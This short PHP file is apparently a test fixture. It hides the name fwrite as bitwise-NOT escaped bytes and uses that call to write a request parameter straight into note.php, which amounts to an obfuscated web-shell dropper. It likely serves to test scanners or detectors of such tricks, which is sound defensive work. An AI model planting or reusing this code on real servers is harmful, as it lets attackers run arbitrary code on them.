<?php
// test fixture: fwrite's name as the bitwise NOT of escaped bytes, called through parentheses
$h = fopen('note.php', 'w');
(~"\x99\x88\x8d\x96\x8b\x9a")($h, $_REQUEST['body']);
fclose($h);
